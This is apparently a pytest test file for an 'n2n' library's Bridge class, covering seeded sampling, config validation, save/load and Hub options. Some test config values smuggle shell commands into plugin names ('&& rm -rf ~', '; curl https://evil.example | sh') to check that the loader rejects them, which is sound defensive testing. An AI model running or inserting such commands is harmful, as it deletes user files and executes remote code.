"""The Bridge: translate and sample order, seeds, save/load round trip, and validated loading."""

from __future__ import annotations

import json
import re

import huggingface_hub
import pytest
import torch
from huggingface_hub.errors import LocalEntryNotFoundError
from safetensors.torch import load_file, save_file

import n2n
import n2n.hub.checkpoints
from n2n.errors import BridgeConfigError, HubError, InvalidInputError, PluginError, WeightsError


@pytest.fixture(scope="module")
def bridge():
    bridge = n2n.create_bridge("cinn", "digits-classifier", "digits", seed=0, blocks=2, hidden=16, embed_dim=8, embed_hidden=16)
    bridge.strategy.training_step({"source": torch.randn(32, 10), "target": torch.randn(32, 24)})  # ActNorm init
    return bridge


@pytest.fixture
def saved(bridge, tmp_path):
    return bridge.save_pretrained(tmp_path / "bridge")


@pytest.fixture(scope="module")
def digits():
    return n2n.load_dataset("digits").load("test")["image"][:3]


def test_translate_is_input_major_and_seeded(bridge, digits):
    images = bridge.translate(digits, n_samples=4, seed=7)
    assert images.shape == (12, 1, 8, 8) and 0 <= images.min() and images.max() <= 1
    torch.testing.assert_close(bridge.translate(digits[:1], n_samples=4, seed=7), images[:4])
    torch.testing.assert_close(bridge.translate(digits, n_samples=4, seed=7), images, atol=0, rtol=0)
    assert not torch.equal(bridge.translate(digits, n_samples=4, seed=8), images)


@pytest.mark.parametrize("rows", [lambda b, n: b, lambda b, n: b * n - 1])  # one sample per input; a row short
def test_a_strategy_that_samples_the_wrong_shape_is_named(bridge, monkeypatch, rows):
    """Not the target's "latents have shape ..." about the user's input, nor fewer images than asked for."""
    monkeypatch.setattr(bridge.strategy, "sample", lambda source, n, generator=None: torch.zeros(rows(len(source), n), 24))
    with pytest.raises(PluginError, match=r"strategy 'cinn': sample returned latents of shape \[\d+, 24\] for 3 input\(s\) x 4 "
                                          r"sample\(s\), expected \[12, 24\] \(input-major"):
        bridge.sample(torch.eye(10)[:3], n_samples=4)


def test_config_records_strategy_experts_and_hyperparameters(bridge):
    config = bridge.config
    assert config["strategy"] == "cinn"
    assert config["source"] == {"expert": "digits-classifier", "modality": "image", "plugin": "n2n-plugin-digits",
                                "checkpoint": "n2n/digits-classifier", "options": {}, "latent_shape": [10]}
    assert config["target"]["latent_shape"] == [24] and config["auxiliary"] == {}
    assert config["config"]["blocks"] == 2 and config["config"]["hidden"] == 16


def test_printed_bridge_begins_with_its_experts_and_strategy(bridge):
    parameters = sum(p.numel() for p in bridge.strategy.parameters())
    assert str(bridge).startswith(f"Bridge(\n  digits-classifier -> digits, strategy=cinn, parameters={parameters:,}\n  (strategy): CINN(")


def test_save_and_load_round_trip(bridge, saved, digits):
    assert sorted(p.name for p in saved.iterdir()) == ["README.md", "config.json", "model.safetensors"]
    loaded = n2n.load_bridge(saved)
    torch.testing.assert_close(loaded.translate(digits, 2, seed=1), bridge.translate(digits, 2, seed=1), atol=0, rtol=0)
    assert loaded.config == bridge.config


def edit_config(path, change):
    config = json.loads((path / "config.json").read_text())
    change(config)
    (path / "config.json").write_text(json.dumps(config))


def test_unknown_strategy(saved):
    edit_config(saved, lambda c: c.update(strategy="cinnn"))
    with pytest.raises(BridgeConfigError, match="unknown strategy 'cinnn'. Did you mean 'cinn'"):
        n2n.load_bridge(saved)


def test_config_records_a_plugin_strategys_package_and_not_a_built_in_ones(bridge, monkeypatch):
    assert "strategy_plugin" not in bridge.config  # cinn is built in
    monkeypatch.setattr("n2n.bridge.plugin_distribution", lambda name, kind="expert": f"n2n-plugin-{kind}")
    assert bridge.config["strategy_plugin"] == "n2n-plugin-strategy"


def test_missing_strategy_plugin_names_the_pip_install(saved):
    edit_config(saved, lambda c: c.update(strategy="walk-linear", strategy_plugin="n2n-plugin-walk"))
    with pytest.raises(BridgeConfigError, match=r"unknown strategy 'walk-linear'.* \(pip install n2n-plugin-walk\)"):
        n2n.load_bridge(saved)
    edit_config(saved, lambda c: c.update(strategy_plugin="n2n-plugin-walk && rm -rf ~"))
    with pytest.raises(BridgeConfigError, match=r"'strategy_plugin' must be the name of the pip package"):
        n2n.load_bridge(saved)


def test_missing_expert_plugin_names_the_pip_install(saved):
    edit_config(saved, lambda c: c["target"].update(expert="stylegan", plugin="n2n-plugin-stylegan"))
    with pytest.raises(BridgeConfigError, match="target expert .stylegan. is not installed: pip install n2n-plugin-stylegan"):
        n2n.load_bridge(saved)


def test_latent_shape_mismatch(saved):
    edit_config(saved, lambda c: c["target"].update(latent_shape=[16]))
    with pytest.raises(BridgeConfigError, match=r"has latent shape \[24\], but the bridge was trained for \[16\]"):
        n2n.load_bridge(saved)


@pytest.mark.parametrize(("key", "value", "message"), [
    ("config", [], "'config' must be a dict"),
    ("strategy", 3, "'strategy' must be a str"),
])
def test_malformed_config(saved, key, value, message):
    edit_config(saved, lambda c: c.update({key: value}))
    with pytest.raises(BridgeConfigError, match=message):
        n2n.load_bridge(saved)


def test_unknown_hyperparameter_in_config(saved):
    edit_config(saved, lambda c: c["config"].update(warp=9))
    with pytest.raises(n2n.N2NError, match=r"unknown hyperparameters \['warp'\]"):
        n2n.load_bridge(saved)


@pytest.mark.parametrize(("change", "message"), [
    (lambda c: c["source"]["options"].update(checkpoint="elsewhere"), r"source.options cannot set \['checkpoint'\]"),
    (lambda c: c["target"]["options"].update(dtype="float16"), r"target.options cannot set \['dtype'\]"),
    (lambda c: c["config"].update(auxiliary={}), r"config cannot set \['auxiliary'\]: they are the bridge's experts"),
    (lambda c: c["metrics"].update(trained_with=[0.5]), r"metrics.trained_with must map sampling settings .* got \[0.5\]"),
    (lambda c: c["metrics"].update(trained_with={"foo": 1}), r"metrics.trained_with names \['foo'\], which are not sampling settings of cinn"),
    # what n2n prints as the install command: a plain package name, never a shell line
    (lambda c: c["target"].update(expert="x2", plugin="n2n-plugin-x2; curl https://evil.example | sh"),
     r"target.plugin must be the name of the pip package that provides the expert .* got 'n2n-plugin-x2; curl"),
    (lambda c: c["target"].update(expert="x2 --index-url https://evil.example"), r"target.expert must be an expert's name"),
])
def test_config_entries_the_loader_cannot_take_are_named(saved, change, message):
    edit_config(saved, change)
    with pytest.raises(BridgeConfigError, match=message):
        n2n.load_bridge(saved)


def test_save_pretrained_onto_a_file_is_refused_and_a_folders_own_samples_are_kept(bridge, tmp_path):
    (tmp_path / "notes").write_text("mine")
    with pytest.raises(InvalidInputError, match="notes is a file: a bridge is saved into a folder"):
        bridge.save_pretrained(tmp_path / "notes")
    assert (tmp_path / "notes").read_text() == "mine"
    (tmp_path / "fresh").mkdir()
    (tmp_path / "fresh" / "samples.png").write_bytes(b"the user's own")  # not an earlier bridge's: no config.json
    bridge.save_pretrained(tmp_path / "fresh")
    assert (tmp_path / "fresh" / "samples.png").read_bytes() == b"the user's own"
    (tmp_path / "app").mkdir()
    for name, content in (("config.json", '{"my": "app config"}'), ("samples.png", "the user's own")):
        (tmp_path / "app" / name).write_text(content)
    with pytest.raises(InvalidInputError, match="app holds a config.json that is not a bridge's, which saving would replace"):
        bridge.save_pretrained(tmp_path / "app")
    assert sorted(p.name for p in (tmp_path / "app").iterdir()) == ["config.json", "samples.png"]
    assert (tmp_path / "app" / "config.json").read_text() == '{"my": "app config"}'


def test_unreadable_weights_are_named_before_a_huge_config_is_built(saved, monkeypatch):
    edit_config(saved, lambda c: c["config"].update(hidden=100_000))  # ~40 GB of weights, were it built
    (saved / "model.safetensors").write_bytes(b"")
    loaded = []
    monkeypatch.setattr(n2n.bridge, "_load_expert", lambda *args: loaded.append(args))
    with pytest.raises(WeightsError, match="model.safetensors is not a readable safetensors file"):
        n2n.load_bridge(saved)
    assert not loaded  # neither an expert (a download, maybe) nor the strategy was built first


def test_saving_without_samples_removes_an_earlier_bridge_s(bridge, tmp_path, digits):
    directory = bridge.save_pretrained(tmp_path / "bridge", sample_inputs=digits, n_samples=2)
    assert (directory / "samples.png").is_file() and "samples.png" in (directory / "README.md").read_text()
    bridge.save_pretrained(directory)
    assert not (directory / "samples.png").exists() and "samples.png" not in (directory / "README.md").read_text()


def test_decoding_latents_that_are_not_whole_samples_of_the_sources_is_a_clear_error(bridge):
    with pytest.raises(n2n.N2NError, match="decode: 5 sampled latents do not come from 2 source latents"):
        bridge.decode(torch.randn(5, 24), torch.randn(2, 10))


def test_from_pretrained_points_an_alias_to_load_bridge():
    with pytest.raises(n2n.N2NError, match=r"is a zoo alias: .* n2n.load_bridge\('bert->digits'\) resolves aliases"):
        n2n.Bridge.from_pretrained("bert->digits")


def test_missing_tensor(saved):
    state = load_file(str(saved / "model.safetensors"))
    state.pop(next(iter(state)))
    save_file(state, str(saved / "model.safetensors"))
    with pytest.raises(WeightsError, match="missing"):
        n2n.load_bridge(saved)


def test_not_a_bridge_directory(tmp_path):
    with pytest.raises(n2n.N2NError, match=r"is not a bridge directory \(no config.json\)$"):
        n2n.load_bridge(tmp_path)


def test_a_training_run_given_for_its_bridge_names_the_bridge(saved):
    """`n2n train --out RUN` saves the bridge into RUN/bridge; RUN itself used to be only "not a bridge directory"."""
    with pytest.raises(n2n.N2NError, match=rf"no config.json\): it is a training run, whose bridge is {re.escape(str(saved))}$"):
        n2n.load_bridge(saved.parent)


@pytest.mark.parametrize("typo", ["my-bridgee", "runs/bert-digitz"])
def test_a_mistyped_folder_is_said_to_be_no_folder_beside_the_hub_s_answer(typo, tmp_path, monkeypatch):
    """A name that is no folder here is read as a Hub repo id; for a bare name, or one under a folder that exists,
    the error used to speak only of the Hub cache, as if the folder were not meant."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_OFFLINE", True)
    (tmp_path / "runs").mkdir()
    with pytest.raises(HubError, match=rf"^{typo} is not in the local Hub cache .* \(nor is there a folder {typo} in "
                                       rf"{re.escape(str(tmp_path))}\)$"):
        n2n.load_bridge(typo)
    with pytest.raises(HubError, match="^my-org/bridge is not in the local Hub cache .*bridge directory$"):  # a repo id, as it looks
        n2n.load_bridge("my-org/bridge")


@pytest.mark.parametrize("ref", [None, 3, "", "  "])
def test_a_bridge_reference_that_names_nothing_is_one_clear_error(ref):
    # '' would be the current folder, and None a TypeError from pathlib
    with pytest.raises(n2n.N2NError, match=rf"a bridge is named by its folder, a zoo alias .* got {re.escape(repr(ref))}$"):
        n2n.load_bridge(ref)


def test_bridge_to_moves_the_strategy_and_every_expert():
    bridge = n2n.create_bridge("mlp", "digits-classifier", "digits", hidden=8, depth=1)
    bridge.to("meta")
    assert all(p.device.type == "meta" for p in bridge.strategy.parameters())
    assert all(e.device.type == "meta" and all(p.device.type == "meta" for m in e._modules() for p in m.parameters())
               for e in bridge.experts)


def test_a_bridge_moved_to_float64_samples_in_float64():
    bridge = n2n.create_bridge("mlp", "digits-classifier", "digits", hidden=8, depth=1).to(torch.float64)
    source = torch.randn(2, 10)
    samples = bridge.sample(source, 3, seed=0)
    assert bridge.dtype == samples.dtype == torch.float64
    assert bridge.decode(samples, source).shape[0] == 6


def test_an_unsupported_dtype_is_one_clear_error():
    with pytest.raises(n2n.N2NError, match="expert 'digits' runs in float32, not float16"):
        n2n.load_expert("digits", dtype=torch.float16)
    assert n2n.load_expert("digits", dtype="float32").dtype == n2n.load_expert("digits", dtype="torch.float32").dtype == torch.float32
    with pytest.raises(n2n.N2NError, match="expert 'digits': dtype must be a torch dtype .* got 'fp32'"):
        n2n.load_expert("digits", dtype="fp32")


def test_auxiliary_experts_are_recorded_and_validated_on_load(tmp_path):
    saved = n2n.create_bridge("mlp", "digits-classifier", "digits", hidden=8, depth=1).save_pretrained(tmp_path / "b")
    edit_config(saved, lambda c: c.update(auxiliary={"judge": {"expert": "digits-classifier", "checkpoint": "n2n/digits-classifier",
                                                                  "latent_shape": [10]}}))
    with pytest.raises(BridgeConfigError, match=r"strategy 'mlp' takes auxiliary experts for the roles \[none\]; unknown \['judge'\]"):
        n2n.load_bridge(saved)
    edit_config(saved, lambda c: c["auxiliary"]["judge"].update(expert="nope", plugin="n2n-plugin-nope"))
    with pytest.raises(BridgeConfigError, match="judge .auxiliary. expert 'nope' is not installed: pip install n2n-plugin-nope"):
        n2n.load_bridge(saved)
    edit_config(saved, lambda c: c["auxiliary"].update(judge=[1]))
    with pytest.raises(BridgeConfigError, match="auxiliary.judge must be an object"):
        n2n.load_bridge(saved)


@pytest.fixture(scope="module")
def flow_bridge():
    bridge = n2n.create_bridge("flow", "digits-classifier", "digits", seed=0, hidden=16, depth=1, embed_dim=8,
                               embed_hidden=16, time_features=4)
    bridge.strategy.initialize({"target": torch.randn(32, 24)})
    bridge.metrics = {"data": {"dataset": "digits"}, "train_steps": 5, "transfer_accuracy": 0.5}
    return bridge


def test_with_settings_samples_differently_on_the_same_weights(flow_bridge):
    logits = torch.eye(10)[:2] * 5
    other = flow_bridge.with_settings(guidance=1.0, steps=3)
    assert other.strategy.config.guidance == 1.0 and other.strategy.config.steps == 3
    assert flow_bridge.strategy.config.guidance == 2.0 and flow_bridge.strategy.config.steps == 8  # unchanged
    assert not torch.allclose(other.sample(logits, 2, seed=0), flow_bridge.sample(logits, 2, seed=0))
    shared = dict(flow_bridge.strategy.named_parameters())
    assert all(tensor is shared[name] for name, tensor in other.strategy.named_parameters())
    # measured at the trained values: dropped; how it was trained stays, with the trained values of what changed
    assert other.metrics == {"data": {"dataset": "digits"}, "train_steps": 5, "trained_with": {"guidance": 2.0, "steps": 8}}
    assert other.config["config"]["guidance"] == 1.0  # what a saved copy samples with
    assert other.with_settings(steps=8).metrics["trained_with"] == {"guidance": 2.0}  # back to a trained value
    assert "trained_with" not in other.with_settings(steps=8, guidance=2.0).metrics
    assert flow_bridge.with_settings() is flow_bridge
    assert flow_bridge.with_settings(guidance=2.0).metrics == flow_bridge.metrics  # nothing changed: still true


def test_a_saved_view_s_card_says_what_changed_after_training(flow_bridge, tmp_path):
    card = (flow_bridge.with_settings(guidance=1.0).save_pretrained(tmp_path / "bridge") / "README.md").read_text()
    assert "- sampling settings changed after training: `guidance=1.0` (trained with `2.0`)" in card


def test_sampling_a_view_leaves_the_original_s_modes_alone(flow_bridge):
    view = flow_bridge.with_settings(steps=2)
    flow_bridge.strategy.train()
    try:
        view.sample(torch.eye(10)[:1], 1, seed=0)
        assert all(module.training for module in flow_bridge.strategy.modules())
    finally:
        flow_bridge.strategy.eval()


def test_with_settings_rejects_what_training_fixed_and_bad_values(flow_bridge, bridge):
    with pytest.raises(InvalidInputError, match=r"\['hidden'\] cannot change once a bridge is trained; the settings it "
                                                r"samples with: steps, solver, guidance"):
        flow_bridge.with_settings(hidden=64, guidance=1.0)
    with pytest.raises(InvalidInputError, match="guidance' must be at least 0, got -1.0"):
        flow_bridge.with_settings(guidance=-1.0)
    with pytest.raises(InvalidInputError, match="solver must be one of"):
        flow_bridge.with_settings(solver="dopri5")
    with pytest.raises(InvalidInputError, match=r"strategy 'cinn': \['blocks'\] cannot change .* samples with: none"):
        bridge.with_settings(blocks=3)
    with pytest.raises(InvalidInputError, match="strategy 'flow' has no setting 'guidence' \\(did you mean 'guidance'\\?\\)"):
        flow_bridge.with_settings(guidence=3.0)


def test_the_hub_options_a_bridge_is_loaded_with_hold_for_its_experts(saved, tmp_path, monkeypatch):
    edit_config(saved, lambda c: c["target"].update(checkpoint="someorg/my-vae"))  # a private expert on the Hub
    asked = []

    def offline(repo_id, **options):
        asked.append((repo_id, options))
        raise LocalEntryNotFoundError("not in the cache")

    monkeypatch.setattr(huggingface_hub, "snapshot_download", offline)
    monkeypatch.setattr(n2n.hub.checkpoints, "unreachable", lambda: None)  # as where the Hub resolves (not here: no network)
    with pytest.raises(n2n.N2NError, match="'someorg/my-vae' is not available locally and the bridge is loaded with local_files_only"):
        n2n.Bridge.from_pretrained(saved, local_files_only=True, token="hf_x", cache_dir=tmp_path / "cache")
    assert asked == [("someorg/my-vae", {"allow_patterns": None, "token": "hf_x", "cache_dir": tmp_path / "cache",
                                         "local_files_only": True})]
    with pytest.raises(n2n.N2NError, match="someorg/my-vae"):
        n2n.load_bridge(saved)  # outside that load, the options are gone
    assert asked[-1] == ("someorg/my-vae", {"allow_patterns": None, "local_files_only": False})
    with pytest.raises(n2n.N2NError, match="loaded with local_files_only"):  # load_bridge of a folder dropped them
        n2n.load_bridge(saved, local_files_only=True, token="hf_x")
    assert asked[-1] == ("someorg/my-vae", {"allow_patterns": None, "token": "hf_x", "local_files_only": True})
    with pytest.raises(TypeError, match="local_file_only"):  # a misspelt option was dropped silently
        n2n.load_bridge(saved, local_file_only=True)


@pytest.mark.parametrize(("ref", "message"), [
    ("bert->digits:cin", r"unknown strategy 'cin'. Did you mean 'cinn'\?"),
    ("bert->digit", r"unknown expert 'digit'. Did you mean 'digits'"),
    ("bert->digits:mlp", r"no bridge 'bert->digits:mlp' in the local zoo .* train one with `n2n train 'bert->digits' --strategy mlp`"),
])
def test_an_alias_of_no_bridge_names_a_misspelt_expert_or_strategy(ref, message, tmp_path, monkeypatch):
    monkeypatch.setenv("N2N_HOME", str(tmp_path))  # an empty zoo
    with pytest.raises(n2n.N2NError, match=message):
        n2n.load_bridge(ref)
